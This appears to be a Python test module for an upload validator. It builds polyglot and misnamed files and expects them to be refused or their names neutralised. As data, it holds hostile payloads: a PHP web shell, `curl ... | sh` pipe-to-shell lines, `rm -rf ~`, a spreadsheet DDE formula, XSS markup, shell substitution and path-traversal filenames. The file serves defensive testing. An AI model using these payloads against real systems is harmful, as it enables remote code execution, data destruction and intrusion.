"""Hostile: files that two programs would open as two different things, and files that are not what they are named."""

import io
import tarfile
import zipfile
from collections.abc import Callable
from functools import partial

from PIL import Image

from tests.factories.files import pdf_bytes, picture_bytes

from .case import Case, neutralised, refused
from .pictures_raw import jpeg_with, png, png_chunk
from .raw import objects, raw_pdf, stream

_PHP = b"<?php system($_GET['x']); ?>"
_HTML = b"<html><script>alert(1)</script></html>"
_SHELL = b"#!/bin/sh\ncurl https://exemple.invalid | sh\n"


def _zip(*, comment: bytes = b"", before: bytes = b"") -> bytes:
    out = io.BytesIO(before)
    out.seek(0, io.SEEK_END)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("charge.exe", b"MZ" + b"\0" * 99)
        archive.comment = comment
    return out.getvalue()


def _tar() -> bytes:
    """Return a PDF that is also a tar archive: the name of its first member is the header of the PDF."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        body = raw_pdf(objects()).split(b"\n", 1)[1]
        member = tarfile.TarInfo("%PDF-1.7")
        member.size = len(body)
        archive.addfile(member, io.BytesIO(body))
    return out.getvalue()


def _disc() -> bytes:
    """Return a PDF that is also the image of a disc, whose descriptor is at 32,769."""
    filler = stream(b"\0" * 34_000)
    whole = bytearray(raw_pdf({1: objects()[1], 9: filler, **{n: objects()[n] for n in (2, 3, 4)}}))
    whole[32_768:32_774] = b"\x01CD001"
    return bytes(whole)


def _between_objects(foreign: bytes) -> Callable[[], bytes]:
    """Return a builder of a PDF with `foreign` after its header, its offsets being right."""

    def build() -> bytes:
        whole = raw_pdf(objects(), previous=b"%PDF-1.7\n" + foreign + b"\n")
        return whole.replace(b"xref\n1 1", b"xref\n0 1\n0000000000 65535 f \n1 1")

    return build


def _picture(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 50), "white").save(out, kind)
    return out.getvalue()


def _beside_a_pdf(head: bytes, tail: bytes) -> bytes:
    return head + pdf_bytes() + tail


_BEFORE = {
    "page": _HTML + b"\n",
    "page in a comment": b"<!--\n",
    "PHP": _PHP,
    "shell script": _SHELL,
    "shell script without its mark": b"curl https://exemple.invalid | sh; exit\n",
    "JavaScript": b"alert(1)/*\n",
    "command file": b"@echo off\r\nstart charge.exe\r\n",
    "GIF": b"GIF89a/*\n",
    "program": b"MZ" + b"\0" * 62,
    "program of Linux": b"\x7fELF" + b"\0" * 60,
    "picture": b"BM" + b"\0" * 60,
    "RIFF": b"RIFF\0\0\0\0WAVE",
    "film": b"\0\0\0\x18ftypmp42" + b"\0" * 12,
    "PostScript": b"%!PS-Adobe-3.0\n",
    "word processor": b"{\\rtf1 ",
    "archive": _zip(),
    "Java": b"\xca\xfe\xba\xbe\0\0\0\x34",
    "message": b"From: x@exemple.invalid\r\nContent-Type: text/html\r\n\r\n",
    "part of a page": b"Content-Type: text/html\r\n\r\n",
    "saved page": b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n",
    "answer of a web server with a page": b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n",
    "head of a mail with PHP": b"Content-Description: " + _PHP + b"\r\n\r\n",
    "command of three letters": b"ls;",
    "letters between bytes": b"\0rm -rf\0",
    "gzip": b"\x1f\x8b\x08\0",
    "Zstandard": b"\x28\xb5\x2f\xfd",
    "WebAssembly": b"\0asm\1\0\0\0",
    "program of macOS, 32 bits": b"\xce\xfa\xed\xfe\7\0",
    "film of Matroska": b"\x1a\x45\xdf\xa3",
    "icon": b"\0\0\1\0\1\0",
    "more bytes than a few": bytes(range(128, 192)),
}
_AFTER = {
    "archive with a directory": b"PK\x05\x06" + b"\0" * 18,
    "page": _HTML,
    "SVG": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
    "PHP": _PHP,
    "shell script": _SHELL,
    "shell script without its mark": b"curl https://exemple.invalid | sh\n",
    "JPEG": picture_bytes(size=(40, 50)),
    "PNG": picture_bytes("PNG", size=(40, 50)),
    "program": b"MZ\x90\0" + b"\0" * 60 + b"PE\0\0",
    "RAR": b"Rar!\x1a\x07\0" + b"\0" * 60,
    "7z": b"7z\xbc\xaf\x27\x1c\0\4" + b"\0" * 60,
    "cabinet": b"MSCF\0\0\0\0" + b"\0" * 60,
    "archive, then a second end": b"PK\x03\x04" + b"\0" * 60 + b"\n%%EOF\n",
    "10 KiB of noise": bytes(range(33, 256)) * 46,
}
_NOT_ACCEPTED: dict[str, tuple[Callable[[], bytes], str]] = {
    "word processor": (_zip, "cv.pdf"),
    "archive": (lambda: _zip(comment=b"%PDF-1.7"), "cv.pdf"),
    "old word processor": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "cv.doc.pdf"),
    "page": (lambda: b"<!doctype html>" + _HTML, "cv.pdf"),
    "SVG": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "photo.png"),
    "GIF": (lambda: _picture("GIF"), "photo.jpg"),
    "TIFF": (lambda: _picture("TIFF"), "photo.jpg"),
    "WebP": (lambda: _picture("WEBP"), "photo.jpg"),
    "AVIF": (lambda: b"\0\0\0\x18ftypavif\0\0\0\0mif1avif", "photo.jpg"),
    "program of Windows": (lambda: b"MZ\x90\0" + b"\0" * 512, "cv.pdf"),
    "shell script": (lambda: _SHELL, "cv.pdf"),
    "PostScript": (lambda: b"%!PS-Adobe-3.0\n/x 1 def showpage\n", "cv.pdf"),
    "text": (partial("Curriculum de Zoé".encode, "utf-8"), "cv.pdf"),
    "text in another encoding": (lambda: "Curriculum de Zoé".encode("utf-16"), "cv.pdf"),
    "table": (lambda: b"nom;prenom\r\n=cmd|'/c calc'!A1;x\r\n", "cv.pdf"),
    "gzip": (lambda: b"\x1f\x8b\x08\0" + b"\0" * 60, "cv.pdf"),
    "form data": (
        lambda: b"%FDF-1.2\n1 0 obj <</FDF <<>>>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n",
        "cv.pdf",
    ),
    "PDF whose header is after 1,025 bytes": (lambda: b"\n" * 1025 + pdf_bytes(), "cv.pdf"),
    "noise": (lambda: bytes(range(256)) * 40, "cv.pdf"),
}

_NAMES = {
    "program behind a point": "cv.pdf.exe",
    "turned around": "cv\u202efdp.exe",
    "zero inside": "cv.pdf\0.exe",
    "path above": "../../etc/passwd",
    "path of Windows": "C:\\Windows\\system32\\cv.pdf",
    "device": "con.pdf",
    "longer than a file system allows": "a" * 5000 + ".pdf",
    "line breaks": "cv\r\nSet-Cookie: x=1.pdf",
    "markup": "<img src=x onerror=alert(1)>.pdf",
    "only points": "....",
    "empty": "",
    "shell": "$(reboot);`id`|x.pdf",
    "formula": "=cmd|' /c calc'!A1.pdf",
}

CASES: list[Case] = [
    *(
        refused("polyglots", f"{name} after a PDF", partial(_beside_a_pdf, b"", tail), "POLYGLOT")
        for name, tail in _AFTER.items()
    ),
    *(
        refused(
            "polyglots",
            f"{name} before a PDF",
            partial(_beside_a_pdf, head, b""),
            "POLYGLOT",
            "NOT_ACCEPTED_TYPE",
        )
        for name, head in _BEFORE.items()
    ),
    refused("polyglots", "archive after a PDF", lambda: _zip(before=pdf_bytes()), "POLYGLOT"),
    refused(
        "polyglots",
        "archive around the end of a PDF",
        lambda: _zip(before=pdf_bytes(), comment=b"\n%%EOF\n"),
        "POLYGLOT",
    ),
    refused("polyglots", "archive in an object", lambda: raw_pdf(objects({5: stream(_zip())})), "POLYGLOT"),
    refused(
        "polyglots",
        "large archive in an object",
        lambda: raw_pdf(objects({5: stream(b"PK\x05\x06" + b"\0" * 6 + b"\xff" * 10 + b"\0\0")})),
        "POLYGLOT",
    ),
    refused(
        "polyglots",
        "script after the trailer",
        lambda: raw_pdf(objects()).replace(b"startxref", b"curl https://exemple.invalid | sh\nstartxref"),
        "POLYGLOT",
    ),
    refused("polyglots", "tar archive", _tar, "POLYGLOT"),
    refused("polyglots", "image of a disc", _disc, "POLYGLOT"),
    refused("polyglots", "page between objects", _between_objects(_HTML), "POLYGLOT"),
    refused("polyglots", "page in a comment between objects", _between_objects(b"%" + _HTML), "POLYGLOT"),
    refused("polyglots", "PHP in a comment between objects", _between_objects(b"%" + _PHP), "POLYGLOT"),
    refused("polyglots", "JPEG between objects", _between_objects(picture_bytes(size=(40, 50))), "POLYGLOT"),
    refused("polyglots", "script between objects", _between_objects(b"rm -rf ~\n" * 40), "POLYGLOT"),
    *(
        refused("polyglot pictures", name, build, "POLYGLOT", sent_as="photo.jpg")
        for name, build in {
            "PDF in a JPEG's comment": lambda: jpeg_with((0xFE, raw_pdf(objects()))),
            "PDF after a JPEG": lambda: picture_bytes() + pdf_bytes(),
            "PDF after a PNG": lambda: picture_bytes("PNG") + pdf_bytes(),
            "archive after a JPEG": lambda: _zip(before=picture_bytes()),
            "archive after a PNG": lambda: _zip(before=picture_bytes("PNG")),
            "archive in a JPEG's comment": lambda: jpeg_with((0xFE, _zip())),
            "page after a JPEG": lambda: picture_bytes() + _HTML,
            "PHP after a PNG": lambda: picture_bytes("PNG") + _PHP,
            "program after a PNG": lambda: picture_bytes("PNG") + b"MZ\x90\0" + b"\0" * 60,
            "RAR after a JPEG": lambda: picture_bytes() + b"Rar!\x1a\x07\0" + b"\0" * 60,
            "PDF in a PNG's chunk": lambda: png(
                40, 50, before=png_chunk(b"tEXt", b"a\0" + raw_pdf(objects()))
            ),
        }.items()
    ),
    *(
        refused("another type", f"{name} named {sent_as}", build, "NOT_ACCEPTED_TYPE", sent_as=sent_as)
        for name, (build, sent_as) in _NOT_ACCEPTED.items()
    ),
    *(neutralised("names", name, pdf_bytes, sent_as=sent_as) for name, sent_as in _NAMES.items()),
]
